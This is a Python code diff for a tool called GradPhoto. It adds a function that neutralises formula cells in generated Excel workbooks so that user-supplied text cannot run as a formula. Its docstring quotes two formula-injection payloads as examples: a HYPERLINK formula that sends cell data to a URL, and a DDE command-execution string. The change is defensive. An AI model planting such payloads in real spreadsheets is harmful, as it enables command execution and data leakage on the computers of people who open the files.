@@ -41,8 +41,25 @@ def normalise_zip(data: bytes) -> bytes:
     return out.getvalue()
 
 
+def defuse_formulas(wb: Workbook) -> int:
+    """Every cell openpyxl took for a formula (text starting with '=') becomes plain text; returns how many.
+
+    GradPhoto writes no formulas of its own: any such cell is user text, e.g. a roster name like
+    =HYPERLINK("http://…"&A1,"click") or =cmd|' /C calc'!A0, which Excel and WPS would otherwise run."""
+    n = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell._value = str(cell.value)  # stored as a string cell, shown as typed
+                    cell.data_type = "s"
+                    n += 1
+    return n
+
+
 def workbook_bytes(wb: Workbook, stamp: dt.datetime) -> bytes:
-    """The .xlsx bytes with `stamp` as created/modified time and fixed zip times."""
+    """The .xlsx bytes with `stamp` as created/modified time and fixed zip times (no formulas, ever)."""
+    defuse_formulas(wb)
     wb.properties.created = stamp
     wb.properties.modified = stamp
     wb.properties.creator = "GradPhoto"
